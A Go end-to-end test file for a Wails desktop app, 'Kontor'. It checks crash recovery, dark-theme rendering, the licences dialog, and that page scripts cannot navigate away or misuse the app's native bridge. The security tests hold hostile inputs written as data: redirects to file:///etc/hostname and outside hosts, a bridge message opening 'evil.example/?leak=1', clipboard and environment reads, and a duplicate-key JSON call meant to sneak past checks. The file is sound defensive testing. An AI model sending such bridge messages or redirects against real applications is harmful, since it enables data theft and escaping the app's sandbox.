//go:build e2e

package e2e_test

import (
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"kontor/internal/dev/e2e"
)

// The web process may be killed, or end for want of memory: the page comes back where it was, and nobody is signed out.
func TestPageComesBackWhenItsProcessIsKilled(t *testing.T) {
	t.Parallel()
	w := e2e.Start(t)
	begin(w)
	w.Link("Settings").Click()
	w.Heading("Settings").Visible()
	w.KillPage()
	w.Heading("Settings").Visible()
	w.Link("Home").Click()
	w.Heading("First steps").Visible()
}

// Whatever script or form asks for it: the window shows the program's own page, and no address is called.
func TestPageCannotBeLedElsewhere(t *testing.T) {
	t.Parallel()
	called := make(chan string, 8)
	elsewhere := httptest.NewServer(http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) { called <- r.URL.Path }))
	defer elsewhere.Close()
	w := e2e.Start(t)
	w.ExpectConsole("Not allowed to load local resource")
	begin(w)
	for i, way := range []string{
		`location.href = arguments[0] + "/location"`,
		`location.replace(arguments[0] + "/replace")`,
		`window.open(arguments[0] + "/open")`,
		`document.body.append(Object.assign(document.createElement("a"), { href: arguments[0] + "/link", id: "elsewhere" }))
			document.getElementById("elsewhere").dispatchEvent(new MouseEvent("click", { cancelable: true }))`,
		`location.href = "file:///etc/hostname"`,
		`location.href = "data:text/html,elsewhere"`,
		`location.href = "https://infomaniak.example/"`,
	} {
		w.Script(nil, way, elsewhere.URL)
		page := []string{"Settings", "Home"}[i%2]
		w.Link(page).Click()
		w.Heading(page).Visible()
	}
	select {
	case path := <-called:
		t.Errorf("%s was called", path)
	default:
	}
}

// Whatever a script sends to the shell, past the page's own code too: it opens no address, reads no clipboard, and neither
// ends the program nor touches the window.
func TestAScriptReachesBoundMethodsAlone(t *testing.T) {
	t.Parallel()
	d := e2e.NewDesktop(t)
	opened := filepath.Join(d.Home, "opened")
	browser := filepath.Join(d.Home, "bin")
	if err := os.MkdirAll(browser, 0o700); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(browser, "xdg-open"), []byte("#!/bin/sh\necho \"$1\" >>"+opened+"\n"), 0o700); err != nil {
		t.Fatal(err)
	}
	w := d.Start(e2e.Env("PATH=" + browser + ":" + os.Getenv("PATH")))
	begin(w)
	var offered []string
	w.Script(&offered, `return Object.keys(window.runtime).sort()`)
	if got := strings.Join(offered, " "); got != "EventsEmit EventsOff EventsOn EventsOnMultiple EventsOnce" {
		t.Errorf("the page is offered %s", got)
	}
	var answered bool
	w.Script(&answered, `
		let answered = false
		const before = window.wails.Callback
		window.wails.Callback = (text) => { if (text.includes("hostile")) answered = true; before(text) }
		for (const send of [window.WailsInvoke, (text) => window.webkit.messageHandlers.external.postMessage(text)])
			for (const text of ["BO:https://evil.example/?leak=1", "BO:mailto:x@evil.example", "LFgone", "LSx", "Q", "H", "WF", "Ws:10:10",
				"wails:showInspector", 'c{"id":1,"args":[],"callbackID":"hostile-0"}',
				'C{"name":":wails:ClipboardGetText","args":[],"callbackID":"hostile-1"}',
				'C{"name":":wails:Environment","args":[],"callbackID":"hostile-2"}',
				'C{"name":"home.Window.Board","args":[],"callbackID":"hostile-3","name":":wails:ScreenGetAll"}'])
				send(text)
		await new Promise((done) => setTimeout(done, 500))
		return answered`)
	if answered {
		t.Error("a call of Wails' own was answered")
	}
	w.Link("Settings").Click()
	w.Heading("Settings").Visible()
	if text, err := os.ReadFile(opened); err == nil {
		t.Errorf("opened: %s", text)
	}
	log, err := os.ReadFile(filepath.Join(d.Home, ".local/share/kontor/logs/kontor.log"))
	if err != nil || !strings.Contains(string(log), "not for it") {
		t.Errorf("nothing of it is in the log: %v", err)
	}
}

// On a dark desktop nothing bright is to be seen between the start and the first page.
func TestDarkWindowNeverFlashes(t *testing.T) {
	t.Parallel()
	w := e2e.Start(t, e2e.Env("GTK_THEME=Adwaita:dark"))
	begin(w)
	var painted struct{ Theme, Painted string }
	w.Until("the system's theme is kept", func() bool {
		w.Call(&painted, "settings.Window.Get")
		return painted.Painted == "dark"
	})
	if painted.Theme != "system" {
		t.Fatalf("%+v", painted)
	}
	w.Stop()
	stop, seen := make(chan struct{}), make(chan []int)
	go func() { seen <- w.Watch(stop) }()
	w.Restart()
	w.Button("Sign in to Kontor").Visible()
	close(stop)
	brightness := <-seen
	t.Log(brightness)
	if len(brightness) < 5 || slices.Max(brightness) > 80 {
		t.Errorf("brightness of the middle of the screen: %v; want none above 80 of 255", brightness)
	}
}

// Whose work is in the program can be read in the window.
func TestLicencesCanBeRead(t *testing.T) {
	t.Parallel()
	w := e2e.Start(t)
	begin(w)
	w.Link("Settings").Click()
	w.Button("Third-party licences").Click()
	w.Dialog("Third-party licences").Visible()
	w.See("github.com/wailsapp/wails/v2")
	w.Axe()
	w.Screenshot("licences-light")
	w.Script(nil, `[...document.querySelectorAll("summary")].find((one) => one.textContent.includes("Fonts")).click()`)
	w.See("Droid is a trademark of Google Corp.")
}
